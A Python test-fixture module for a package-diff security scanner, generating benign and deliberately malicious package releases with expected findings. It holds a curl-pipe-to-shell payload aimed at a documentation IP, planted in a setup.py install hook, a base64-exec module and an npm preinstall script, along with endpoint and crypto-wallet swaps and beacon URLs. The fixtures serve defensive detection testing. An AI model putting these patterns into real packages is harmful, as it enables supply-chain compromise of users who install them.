"""Pairs of releases for ``outwork diff``: a benign base package, its benign next release and
its malicious twins (harmless payloads, unroutable addresses), written as unpacked folders or
archives. Used by the fixtures of PKG040-PKG044 (their ``generate.py``) and ``test_diff.py``.

A case is a folder holding ``old`` and ``new`` (folders, or archives named ``old.tar.gz``,
``new.whl``...); :func:`diff_pairs` compares every case under a fixture folder.
"""

from __future__ import annotations

import hashlib
from pathlib import Path

from outwork.analyzers.packages.diff import diff_paths
from outwork.core.findings import Finding

B58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"


def base58check(payload: bytes) -> str:
    """A Base58Check string (a Bitcoin-style address when ``payload`` is a version byte and a
    20-byte hash): what the diff recognises as a wallet."""
    raw = payload + hashlib.sha256(hashlib.sha256(payload).digest()).digest()[:4]
    number = int.from_bytes(raw, "big")
    out = ""
    while number:
        number, rest = divmod(number, 58)
        out = B58[rest] + out
    return "1" * (len(raw) - len(raw.lstrip(b"\0"))) + out


def bitcoin(seed: str) -> str:
    return base58check(b"\x00" + hashlib.sha256(seed.encode()).digest()[:20])


def ethereum(seed: str) -> str:
    return "0x" + hashlib.sha256(seed.encode()).hexdigest()[:40]


def write_tree(folder: Path, files: dict[str, str | bytes]) -> None:
    for name, content in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, "utf-8")


def pkg_info(name: str, version: str) -> str:
    return f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"


def setup_py(name: str, version: str) -> str:
    return (
        "from setuptools import setup\n\n"
        f'setup(name="{name}", version="{version}", packages=["{name}"])\n'
    )


#: A small library: a client for its own API, a helper, docs.
CLIENT = '''"""Client for the example service."""

import requests

API = "https://api.example-service.com/v1"


def fetch(item):
    """Fetch one item."""
    return requests.get(f"{API}/items/{item}", timeout=10).json()


def report(data):
    return requests.post("https://api.example-service.com/v1/report", json=data, timeout=10)
'''

UTIL = """import subprocess


def git_revision():
    return subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True, text=True).stdout


def clamp(value, low, high):
    return max(low, min(high, value))
"""


def base_release(name: str, version: str) -> dict[str, str | bytes]:
    """The members of an unpacked sdist of the example library."""
    return {
        "PKG-INFO": pkg_info(name, version),
        "setup.py": setup_py(name, version),
        "README.md": f"# {name}\n\nSee https://docs.example-service.com/{name}.\n",
        f"{name}/__init__.py": (
            f'from {name}.client import fetch, report\n\n__version__ = "{version}"\n'
        ),
        f"{name}/client.py": CLIENT,
        f"{name}/util.py": UTIL,
    }


def diff_pairs(root: Path) -> list[Finding]:
    """Compare the ``old`` and ``new`` release of every case folder under ``root``."""
    findings: list[Finding] = []
    for case in sorted(p for p in root.rglob("*") if p.is_dir()):
        olds = [c for c in case.iterdir() if c.name.split(".", 1)[0] == "old"]
        news = [c for c in case.iterdir() if c.name.split(".", 1)[0] == "new"]
        olds = [c for c in olds if not c.name.endswith(".expect")]
        news = [c for c in news if not c.name.endswith(".expect")]
        if len(olds) == 1 and len(news) == 1:
            findings += diff_paths(olds[0], news[0]).findings
    return findings


# --- the cases ---------------------------------------------------------------------------------

Files = dict[str, str | bytes]
PAYLOAD = "curl -s https://198.51.100.7/p.sh | sh"  # an unroutable documentation address


def benign_bump() -> tuple[Files, Files]:
    """A release bump that must stay below high: version strings, docs, a function moved to a
    new module, an API version changed on the same domain, a URL built from a constant, a new
    popular dependency, a new helper."""
    old = base_release("exlib", "1.0.0")
    new = base_release("exlib", "1.0.1")
    new["README.md"] = (
        "# exlib\n\nSee https://docs.example-service.com/exlib.\n\n## 1.0.1\n- faster\n"
    )
    new["setup.py"] = (
        "from setuptools import setup\n\n"
        'setup(name="exlib", version="1.0.1", packages=["exlib"],  # ok: PKG040, PKG041\n'
        '      install_requires=["requests>=2", "packaging"])  # ok: PKG040, PKG041\n'
    )
    new["exlib/util.py"] = (
        "import os\n\n\n"
        "def clamp(value, low, high):  # ok: PKG040, PKG042\n"
        "    return max(low, min(high, value))\n\n\n"
        "def azure_config():  # a low signal only when called: the table's not raised\n"
        '    return open(os.path.expanduser("~/.azure/config")).read()  # ok: PKG040\n'
    )
    new["exlib/vcs.py"] = (
        "import subprocess\n\n\n"
        "def git_revision():  # ok: PKG040\n"
        "    return subprocess.run(  # ok: PKG040\n"
        '        ["git", "rev-parse", "HEAD"], capture_output=True, text=True  # ok: PKG040\n'
        "    ).stdout\n"
    )
    new["exlib/client.py"] = (
        '"""Client for the example service."""\n\n'
        "import requests\n\n"
        'API = "https://api.example-service.com/v2"  # ok: PKG041, PKG042\n\n\n'
        "def fetch(item):\n"
        '    """Fetch one item."""\n'
        '    return requests.get(f"{API}/items/{item}").json()  # ok: PKG040, PKG041\n\n\n'
        "def report(data):\n"
        '    return requests.post(f"{API}/report", json=data)  # ok: PKG040, PKG041\n\n\n'
        "def docs():\n"
        '    return "https://docs.example-service.com/exlib/latest"  # ok: PKG041\n'
    )
    return old, new


def post_install_hook() -> tuple[Files, Files]:
    """A command class added to setup.py that runs a downloader after installing."""
    old = base_release("exlib", "1.0.0")
    new = base_release("exlib", "1.0.1")
    new["setup.py"] = (
        "import os\n"
        "from setuptools import setup\n"
        "from setuptools.command.install import install\n\n\n"
        "class PostInstall(install):\n"
        "    def run(self):\n"
        "        install.run(self)\n"
        f'        os.system("{PAYLOAD}")  # expect: PKG040/critical, PKG041/critical\n\n\n'
        'setup(name="exlib", version="1.0.1", packages=["exlib"],\n'
        '      cmdclass={"install": PostInstall})\n'
    )
    return old, new


def obfuscated_module() -> tuple[Files, Files]:
    """A new module that runs base64-hidden code, imported from the package's ``__init__``."""
    import base64

    hidden = base64.b64encode(f"import os\nos.system('{PAYLOAD}')\n".encode()).decode()
    old = base_release("exlib", "1.0.0")
    new = base_release("exlib", "1.0.1")
    new["exlib/__init__.py"] = (
        "from exlib.client import fetch, report  # ok: PKG040\n"
        "from exlib import _speedups  # ok: PKG040\n\n"
        '__version__ = "1.0.1"\n'
    )
    new["exlib/_speedups.py"] = (
        f'import base64\nexec(base64.b64decode("{hidden}"))  # expect: PKG040/critical\n'
    )
    return old, new


def network_now_at_import() -> tuple[Files, Files]:
    """An existing function, never called before, now called at import time."""
    beacon = (
        "\n\ndef beacon():\n"
        '    return requests.get("https://api.example-service.com/v1/ping", timeout=5)'
    )
    old = base_release("exlib", "1.0.0")
    old["exlib/client.py"] = CLIENT + beacon + "\n"
    new = base_release("exlib", "1.0.1")
    new["exlib/client.py"] = CLIENT + beacon + "  # expect: PKG040/high\n\n\nbeacon()\n"
    return old, new


def destination_swapped() -> tuple[Files, Files]:
    """The report endpoint replaced inside an unchanged function, with lines added above it;
    a test's server replaced (a step lower: tests are not imported by an installation)."""
    old = base_release("exlib", "1.0.0")
    new = base_release("exlib", "1.0.1")
    old["tests/test_client.py"] = 'SERVER = "https://httpbin.org/anything"\n'
    new["tests/test_client.py"] = (
        'SERVER = "https://httpbingo.org/anything"  # expect: PKG042/low, PKG041/low\n'
    )
    new["exlib/client.py"] = CLIENT.replace(
        "def report(data):\n",
        "def report(data):\n    data = dict(data)\n",
    ).replace(
        '"https://api.example-service.com/v1/report", json=data, timeout=10)',
        '"https://collect.example-metrics.net/v1/report", json=data, timeout=10)'
        "  # expect: PKG042/medium, PKG041/low",
    )
    return old, new


def wallet_swapped() -> tuple[Files, Files]:
    """Wallet addresses replaced: an Ethereum address in a function that gained a line, a
    Bitcoin address in a module constant."""
    old = base_release("exlib", "1.0.0")
    new = base_release("exlib", "1.0.1")
    old["exlib/pay.py"] = (
        f'DEFAULT = "{bitcoin("maintainer")}"\n\n\n'
        f'def donate(send, amount):\n    return send("{ethereum("maintainer")}", amount)\n'
    )
    new["exlib/pay.py"] = (
        f'DEFAULT = "{bitcoin("attacker")}"  # expect: PKG042/critical\n\n\n'
        "def donate(send, amount):\n"
        "    amount = abs(amount)  # ok: PKG042\n"
        f'    return send("{ethereum("attacker")}", amount)  # expect: PKG042/critical\n'
    )
    return old, new


def new_destinations() -> tuple[Files, Files]:
    """New destinations: a webhook and a raw address (high), an ordinary new domain (low),
    new paths on a known domain (not reported)."""
    old = base_release("exlib", "1.0.0")
    new = base_release("exlib", "1.0.1")
    new["exlib/stats.py"] = (
        'WEBHOOK = "https://discord.com/api/webhooks/1234/abcd"  # expect: PKG041/high\n'
        'BEACON = "http://198.51.100.23:8080/b"  # expect: PKG041/high\n'
        'MIRROR = "https://newdomain-stats.org/x"  # expect: PKG041/low\n'
        'STATUS = "https://status.example-service.com/v1"  # ok: PKG041\n'
        'LOCAL = "http://127.0.0.1:8080/"  # ok: PKG041\n'
        "# https://203.0.113.50/only-in-a-comment  ok: PKG041\n"
        'RELAY = "relay.example-c2.net:4444"  # expect: PKG041/low\n'
        'ATTRIBUTE = "db.system.name"  # ok: PKG041\n'
        'VERSIONED = "1.2.3.4"  # expect: PKG041/high\n'
    )
    return old, new


def pth_added() -> tuple[Files, Files]:
    old = base_release("exlib", "1.0.0")
    new = base_release("exlib", "1.0.1")
    new["exlib-init.pth"] = "import os; os.system('echo outwork-test')\n"
    return old, new


def elf_added() -> tuple[Files, Files]:
    old = base_release("exlib", "1.0.0")
    new = base_release("exlib", "1.0.1")
    new["exlib/_speedups.bin"] = b"\x7fELF\x02\x01\x01" + b"\0" * 200
    return old, new


def npm_release(version: str, scripts: dict[str, str] | None, files: dict[str, str]) -> Files:
    import json

    manifest: dict[str, object] = {"name": "ex-utils", "version": version, "main": "index.js"}
    if scripts:
        manifest["scripts"] = scripts
    return {"package.json": json.dumps(manifest, indent=2) + "\n", **files}


INDEX_JS = "module.exports = function pad(s, n) { return String(s).padStart(n); };\n"


def npm_preinstall() -> tuple[Files, Files]:
    """An npm ``preinstall`` added that runs a new file, which fetches and runs a script."""
    old = npm_release("2.1.0", {"test": "node test.js"}, {"index.js": INDEX_JS})
    setup = (
        "const { execSync } = require('child_process');\n"
        f"execSync('{PAYLOAD}');  // expect: PKG040/critical, PKG041/critical\n"
    )
    new = npm_release(
        "2.1.1",
        {"test": "node test.js", "preinstall": "node setup.js"},
        {"index.js": INDEX_JS, "setup.js": setup},
    )
    return old, new


def native_wheel(version: str, files: dict[str, bytes | str]) -> Files:
    dist = f"exnative-{version}.dist-info"
    return {
        f"{dist}/METADATA": pkg_info("exnative", version),
        f"{dist}/WHEEL": "Wheel-Version: 1.0\nTag: cp311-cp311-manylinux_2_17_x86_64\n",
        "exnative/__init__.py": "from exnative._core import add\n",
        **files,
    }


ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 200


def native_rebuilt() -> tuple[Files, Files]:
    """A native wheel rebuilt: its extension and vendored library renamed by version and build
    hash (not new), and one new extension module (low)."""
    old = native_wheel(
        "3.0.0",
        {
            "exnative/_core.cpython-310-x86_64-linux-gnu.so": ELF,
            "exnative.libs/libgfortran-040039e1.so.5.0.0": ELF,
        },
    )
    new = native_wheel(
        "3.0.1",
        {
            "exnative/_core.cpython-311-x86_64-linux-gnu.so": ELF,
            "exnative.libs/libgfortran-9a8b7c6d.so.5.1.0": ELF,
            "exnative/_extra.cpython-311-x86_64-linux-gnu.so": ELF,
        },
    )
    return old, new


def write_case(directory: Path, name: str, pair: tuple[Files, Files]) -> Path:
    """Write a case as two unpacked releases, ``NAME/old`` and ``NAME/new``."""
    write_tree(directory / name / "old", pair[0])
    write_tree(directory / name / "new", pair[1])
    return directory / name


def sidecar(path: Path, *lines: str) -> None:
    """Expectations for a file that carries none itself (a manifest, a binary)."""
    path.with_name(path.name + ".expect").write_text("\n".join(lines) + "\n", "utf-8")


def line_of(path: Path, needle: str) -> int:
    for number, line in enumerate(path.read_text("utf-8").splitlines(), start=1):
        if needle in line:
            return number
    raise ValueError(f"{needle!r} is not in {path}")


def popular_swapped() -> tuple[Files, Files]:
    """The same swap in a package among the registry's most downloaded (high)."""
    old = base_release("requests", "1.0.0")
    new = base_release("requests", "1.0.1")
    new["requests/client.py"] = CLIENT.replace(
        '"https://api.example-service.com/v1/report", json=data, timeout=10)',
        '"https://collect.example-metrics.net/v1/report", json=data, timeout=10)'
        "  # expect: PKG042/high",
    )
    return old, new


def npm_wallet_swapped() -> tuple[Files, Files]:
    """A Bitcoin address swapped in JavaScript, in a function that gained a statement."""
    body = 'function tip(send, amount) {{\n{extra}  return send("{address}", amount);{mark}\n}}\n'
    old = npm_release(
        "2.1.0",
        None,
        {
            "index.js": INDEX_JS,
            "tip.js": body.format(extra="", address=bitcoin("maintainer"), mark="")
            + "module.exports = tip;\n",
        },
    )
    new = npm_release(
        "2.1.1",
        None,
        {
            "index.js": INDEX_JS,
            "tip.js": body.format(
                extra="  amount = Math.abs(amount);  // ok: PKG042\n",
                address=bitcoin("attacker"),
                mark="  // expect: PKG042/critical",
            )
            + "module.exports = tip;\n",
        },
    )
    return old, new


def npm_postinstall_changed() -> tuple[Files, Files]:
    old = npm_release(
        "2.1.0", {"postinstall": "node build.js"}, {"index.js": INDEX_JS, "build.js": ""}
    )
    new = npm_release(
        "2.1.1",
        {"postinstall": "node build.js && node telemetry.js"},
        {"index.js": INDEX_JS, "build.js": "", "telemetry.js": ""},
    )
    return old, new


def entry_points_added() -> tuple[Files, Files]:
    """A console script and a pytest plugin added to the egg-info's entry points, and a new
    top-level package."""
    old = base_release("exlib", "1.0.0")
    old["exlib.egg-info/entry_points.txt"] = "[console_scripts]\nexlib = exlib.cli:main\n"
    new = base_release("exlib", "1.0.1")
    new["exlib.egg-info/entry_points.txt"] = (
        "[console_scripts]\nexlib = exlib.cli:main\nexlib-admin = exlib.cli:admin\n\n"
        "[pytest11]\nexlib_plugin = exlib.plugin\n"
    )
    new["exlib_extra/__init__.py"] = "VALUE = 1\n"
    return old, new
